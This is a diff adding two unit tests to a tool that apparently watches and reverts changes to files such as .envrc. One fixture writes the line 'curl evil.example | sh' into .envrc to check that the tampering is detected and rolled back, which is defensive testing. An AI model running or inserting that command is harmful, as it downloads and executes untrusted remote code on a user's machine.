@@ -13,6 +13,7 @@ from corral import protect, state, watched
 from corral.cli import main
 from corral.context import Invocation
 from corral.looking import MAX_CONTENT
+from policy import savedfile
 from policy.errors import CorralError, PolicyError
 from policy.loader import LoadedPolicy
 from tests.unit.corral.conftest import POLICY
@@ -297,3 +298,25 @@ def test_the_command_puts_back(session: Session, project: Path, capsys: pytest.C
     assert main(["revert", SESSION]) == 0
     assert capsys.readouterr().out == f"{project}/.envrc: removed\n"
     assert main(["revert", SESSION]) == 2
+
+
+def test_what_changed_is_told_also_when_there_is_no_room_to_keep_it(session: Session, project: Path) -> None:
+    session.paths.root.mkdir(parents=True, exist_ok=True)
+    (session.paths.root / protect.RECORDS).write_text("in the way")
+    with pytest.raises(CorralError, match="cannot write"):
+        session(lambda: (project / ".envrc").write_text("x\n"))
+    assert any(".envrc: new" in line for line in session.told)
+
+
+def test_what_there_was_before_a_session_is_read_however_large_it_is(
+    session: Session, project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(savedfile.text, "__defaults__", (1000,))
+    (project / ".envrc").write_text("x" * 2000)
+    session.paths.session(SESSION).mkdir(parents=True)
+    protect.watch(session.loaded, session.paths, SESSION, {"PATH": "/usr/bin"}).save()
+    (project / ".envrc").write_text("curl evil.example | sh\n")
+    protect.told_later(session.paths, SESSION, {"PATH": "/usr/bin"}, session.told.extend)
+    assert any(".envrc: changed" in line for line in session.told)
+    session.revert()
+    assert (project / ".envrc").read_text() == "x" * 2000
